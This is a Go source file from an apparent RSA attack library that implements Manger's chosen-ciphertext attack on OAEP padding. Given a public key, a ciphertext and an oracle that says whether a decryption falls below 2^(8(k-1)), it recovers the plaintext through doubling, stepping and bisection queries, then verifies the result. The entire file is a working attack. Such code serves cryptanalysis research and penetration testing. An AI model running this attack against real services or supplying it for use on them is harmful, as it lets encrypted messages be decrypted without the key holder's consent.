package padoracle

import (
	"context"
	"fmt"
	"math/big"
	"time"

	"github.com/mahdiidarabi/rsa-oracle/internal/arith"
)

// MangerAttack recovers the OAEP block behind a ciphertext from an oracle
// that reports whether a ciphertext decrypts to a value below
// B = 2^(8(k-1)). The block itself must be below B, which holds for every
// OAEP block.
type MangerAttack struct {
	Config AttackConfig
}

// NewMangerAttack creates the attack with default settings.
func NewMangerAttack() *MangerAttack {
	return &MangerAttack{Config: DefaultAttackConfig()}
}

// WithConfig sets the attack configuration.
func (a *MangerAttack) WithConfig(config AttackConfig) *MangerAttack {
	a.Config = config
	return a
}

// Name returns the name of this attack.
func (a *MangerAttack) Name() string {
	return "Manger"
}

// Recover implements Attack. The queries depend on each other, so the
// ensemble is only used for fail-over.
func (a *MangerAttack) Recover(ctx context.Context, key *PublicKey, ciphertext *big.Int, oracle *Ensemble) (*RecoveryResult, error) {
	start := time.Now()
	if err := key.Validate(); err != nil {
		return nil, err
	}
	if ciphertext.Sign() < 0 || ciphertext.Cmp(key.N) >= 0 {
		return nil, fmt.Errorf("%w: ciphertext is not below the modulus", ErrInvalidQuery)
	}

	n := key.N
	k := key.Size()
	bound := new(big.Int).Lsh(big.NewInt(1), uint(8*(k-1)))
	if new(big.Int).Lsh(bound, 1).Cmp(n) >= 0 {
		return nil, fmt.Errorf("%w: 2B must be below n", ErrUnsupportedModulus)
	}

	rep := newReporter(a.Config)
	oracle.SetWarningHandler(rep.warn)
	defer oracle.SetWarningHandler(nil)

	var queries int64
	ask := func(f *big.Int) (bool, error) {
		if err := ctx.Err(); err != nil {
			return false, err
		}
		queries++
		return oracle.Query(ctx, key.Blind(ciphertext, f))
	}

	rep.phase("Starting Manger attack: %d-byte modulus", k)

	// Step 1: double f1 until f1*m >= B. Since m < B, f1 stays below 2B.
	rep.phase("Step 1: Searching f1...")
	f1 := big.NewInt(2)
	for {
		below, err := ask(f1)
		if err != nil {
			return nil, fmt.Errorf("failed to search f1: %w", err)
		}
		if !below {
			break
		}
		f1.Lsh(f1, 1)
		if f1.Cmp(new(big.Int).Lsh(bound, 1)) > 0 {
			return nil, fmt.Errorf("f1 exceeds 2B: %w", ErrInconsistentOracle)
		}
	}
	rep.phase("✓ f1 = %s", f1.Text(16))

	// Step 2: step f2 by f1/2 from floor((n+B)/B)*f1/2 until f2*m wraps
	// into [n, n+B).
	rep.phase("Step 2: Searching f2...")
	half := new(big.Int).Rsh(f1, 1)
	f2 := arith.DivFloor(new(big.Int).Add(n, bound), bound)
	f2.Mul(f2, half)

	limit := arith.DivFloor(new(big.Int).Lsh(n, 1), bound)
	limit.Add(limit, big.NewInt(3))
	limit.Mul(limit, half)
	for {
		below, err := ask(f2)
		if err != nil {
			return nil, fmt.Errorf("failed to search f2: %w", err)
		}
		if below {
			break
		}
		f2.Add(f2, half)
		if f2.Cmp(limit) > 0 {
			return nil, fmt.Errorf("f2 exceeds its bound: %w", ErrInconsistentOracle)
		}
	}
	rep.phase("✓ f2 = %s", f2.Text(16))

	// Step 3: bisect [ceil(n/f2), floor((n+B)/f2)].
	rep.phase("Step 3: Narrowing m...")
	mMin := arith.DivCeil(n, f2)
	mMax := arith.DivFloor(new(big.Int).Add(n, bound), f2)
	twoB := new(big.Int).Lsh(bound, 1)

	rounds := 0
	for mMin.Cmp(mMax) != 0 {
		if mMin.Cmp(mMax) > 0 {
			return nil, fmt.Errorf("empty range after %d rounds: %w", rounds, ErrInconsistentOracle)
		}
		rounds++

		fTmp := arith.DivFloor(twoB, new(big.Int).Sub(mMax, mMin))
		i := arith.DivFloor(new(big.Int).Mul(fTmp, mMin), n)
		in := new(big.Int).Mul(i, n)
		f3 := arith.DivCeil(in, mMin)

		below, err := ask(f3)
		if err != nil {
			return nil, fmt.Errorf("failed to query round %d: %w", rounds, err)
		}

		// The bounds only move inwards; a round that moves neither means
		// the answers contradict each other.
		inB := new(big.Int).Add(in, bound)
		if below {
			next := arith.DivFloor(inB, f3)
			if next.Cmp(mMax) >= 0 {
				return nil, fmt.Errorf("round %d did not lower the upper bound: %w", rounds, ErrInconsistentOracle)
			}
			mMax = next
		} else {
			next := arith.DivCeil(inB, f3)
			if next.Cmp(mMin) <= 0 {
				return nil, fmt.Errorf("round %d did not raise the lower bound: %w", rounds, ErrInconsistentOracle)
			}
			mMin = next
		}
		rep.progress("Round %d: %d bits left", rounds, new(big.Int).Sub(mMax, mMin).BitLen())
	}

	if key.Encrypt(mMin).Cmp(ciphertext) != 0 {
		return nil, ErrVerificationFailed
	}
	rep.phase("✓ Recovered plaintext after %d rounds, %d queries", rounds, queries)

	return &RecoveryResult{
		Plaintext: key.Encode(mMin),
		Value:     mMin,
		Attack:    a.Name(),
		Verified:  true,
		Rounds:    rounds,
		Queries:   queries,
		Duration:  time.Since(start),
	}, nil
}
